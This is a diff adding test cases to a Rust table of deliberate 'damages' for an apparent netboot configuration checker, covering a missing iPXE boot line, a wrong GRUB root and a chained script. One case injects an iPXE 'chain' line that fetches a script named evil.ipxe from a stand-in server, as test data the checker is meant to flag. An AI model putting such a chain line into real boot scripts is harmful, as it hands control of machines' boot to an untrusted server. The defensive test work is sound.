@@ -1120,6 +1120,27 @@ const DAMAGES: &[Damage] = &[
         ":/EFI/BOOT/BOOTX64.EFI: is for arm64; by its name it is for amd64",
     ),
     damage(
+        "references",
+        "a script lost its boot",
+        |set| set.edit("netboot/combined.ipxe", "boot || goto failed_boot\n", ""),
+        "the kernel is loaded and never started",
+    ),
+    warning(
+        "references",
+        "a script goes to another server first",
+        |set| set.edit("netboot/boot.ipxe", "#!ipxe\n", "#!ipxe\nchain http://192.0.2.9/evil.ipxe ||\n"),
+        "is on another server: what it boots is not judged",
+    ),
+    damage(
+        "grub-net",
+        "the menu for one machine has another root",
+        |set| {
+            let text = String::from_utf8(set.read("netboot/grub/grub.cfg")).unwrap();
+            set.write("netboot/grub/grub.cfg-01-52-54-00-12-34-56", text.replace(LINE, "root=/dev/sda9"));
+        },
+        "netboot/grub/grub.cfg-01-52-54-00-12-34-56:11: root=/dev/sda9",
+    ),
+    damage(
         "loaders",
         "a loader is the page of a server that lacks it",
         |set| set.write("netboot/pxelinux.0", "<!DOCTYPE html><title>404 Not Found</title>"),
